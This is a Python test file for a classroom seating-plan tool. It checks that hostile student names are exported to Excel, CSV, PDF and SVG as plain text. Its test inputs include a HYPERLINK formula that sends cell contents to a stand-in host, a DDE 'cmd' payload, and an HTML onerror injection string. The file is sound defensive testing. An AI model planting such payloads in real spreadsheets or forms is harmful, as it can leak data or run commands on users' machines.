"""Formula injection, end to end: hostile class list -> plan -> Excel / CSV files.

A name like ``=HYPERLINK("http://evil/?"&A1,"klikk")`` must reach a teacher's
spreadsheet as text. Checked on the saved bytes: no openpyxl cell has
data_type 'f', no XML part of the workbook holds an ``<f>`` element, and every
CSV cell that would start a formula starts with an apostrophe instead.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from makker.baseline import random_plan
from makker.export import plan_to_csv, plan_to_xlsx, safe_text, write_plan
from makker.i18n import LANGUAGES
from makker.roster import read_rosters
from makker.students import Student

CORPUS = Path(__file__).parent / "data" / "hostile"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = ['=HYPERLINK("http://example.invalid/?"&A1,"klikk")', "=1+1", "+47 99 99 99 99", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>",
           "\x00=1", "=" + "A" * 10_000]


def hostile_plan(klass: str = "=1STA", rotations: int = 3):
    """Names, ids and previous schools that all start like formulas."""
    students = [Student(id=f"=ID{i}" if i % 2 else f"+{i}", name=name, first=name, klass=klass,
                        gender="KM"[i % 2], school=f"@Skole{i % 3}")
                for i, name in enumerate(ATTACKS)]
    students += [Student(id=str(9000 + i), name=f"Elev {i}", klass=klass) for i in range(5)]
    return random_plan(students, rotations, seed=1, klass=klass)


def assert_no_formulas(data: bytes) -> None:
    """The workbook as saved: no formula cells, no <f> element in any part."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[\s>/]", xml), f"formula element in {name}"
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                cells += 1
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} = {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    # stays text even when a teacher edits the cell (F2, Enter)
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} = {cell.value!r}"
    assert cells > 20


def csv_cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def assert_csv_neutral(data: bytes) -> None:
    rows = csv_cells(data)
    assert len(rows) > 5
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), repr(cell)


def every_export_form(test):
    """Run ``test`` in every language, with and without the gender and school columns."""
    return pytest.mark.parametrize("lang", LANGUAGES)(pytest.mark.parametrize("with_attributes", [False, True])(test))


@every_export_form
def test_xlsx_of_hostile_roster_has_no_formula_cell(lang, with_attributes):
    plan = hostile_plan()
    data = plan_to_xlsx(plan, lang, with_attributes=with_attributes)
    assert_no_formulas(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert "=1+1" in values and "@SUM(1+1)" in values  # kept as the text it was
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK(") for v in values)


@every_export_form
def test_csv_of_hostile_roster_neutralises_every_formula_start(lang, with_attributes):
    plan = hostile_plan()
    data = plan_to_csv(plan, lang, with_attributes=with_attributes)
    assert_csv_neutral(data)
    cells = {c for row in csv_cells(data) for c in row}
    assert "'=1+1" in cells and "'@SUM(1+1)" in cells and "'+47 99 99 99 99" in cells
    assert "'=ID1" in cells  # ids are neutralised too


def test_write_plan_files_are_safe(tmp_path):
    plan = hostile_plan()
    assert_no_formulas(write_plan(plan, tmp_path / "plan.xlsx").read_bytes())
    assert_csv_neutral(write_plan(plan, tmp_path / "plan.csv").read_bytes())
    # The JSON plan file keeps names exactly (it is makker's own format, never opened by Excel).
    text = write_plan(plan, tmp_path / "plan.json").read_text(encoding="utf-8")
    assert "@SUM(1+1)" in text


@pytest.mark.parametrize("name", ["formula_names.csv", "formula_names.xlsx", "html_names.xlsx"])
def test_hostile_file_all_the_way_to_excel_and_csv(name):
    """The corpus file itself, read by the importer, planned and exported."""
    roster = read_rosters(CORPUS / name).rosters[0]
    plan = random_plan(roster.students, 2, seed=0, klass=roster.klass)
    assert_no_formulas(plan_to_xlsx(plan, "nb", with_attributes=True))
    assert_csv_neutral(plan_to_csv(plan, "nb", with_attributes=True))


@pytest.mark.parametrize("text", ATTACKS + ["Nora", "", "'=1", " =1", "1=1"])
def test_safe_text_never_starts_a_formula(text):
    out = safe_text(text)
    assert not out.startswith(FORMULA_START)
    assert out.endswith(text) and len(out) - len(text) in (0, 1)


PRINTABLE = ["long_name.csv", "html_names.csv", "rtl_names.csv", "emoji_names.xlsx", "formula_names.xlsx",
             "utf16.csv", "duplicate_names.csv", "forty_five_students.csv"]


@pytest.mark.filterwarnings("ignore:Glyph")  # emoji are missing from the bundled font: drawn as boxes
@pytest.mark.parametrize("name", PRINTABLE)
def test_hostile_names_in_charts_and_class_pack(name):
    """Every student-facing print of a hostile class works (a 10,000-character name once broke the pack)."""
    from makker import charts
    from makker.pack import class_pack

    roster = read_rosters(CORPUS / name).rosters[0]
    plan = random_plan(roster.students, 2, seed=0, klass=roster.klass)
    assert class_pack(plan, 1, "nb").startswith(b"%PDF")
    for presentation in (False, True):
        svg = charts.figure_bytes(charts.seating_chart(plan, 1, "nb", presentation=presentation), "svg")
        assert b"<script" not in svg.lower() and b"<img" not in svg  # names are escaped text, never markup
    charts.figure_bytes(charts.network_chart(plan, 2, "nb"), "png")
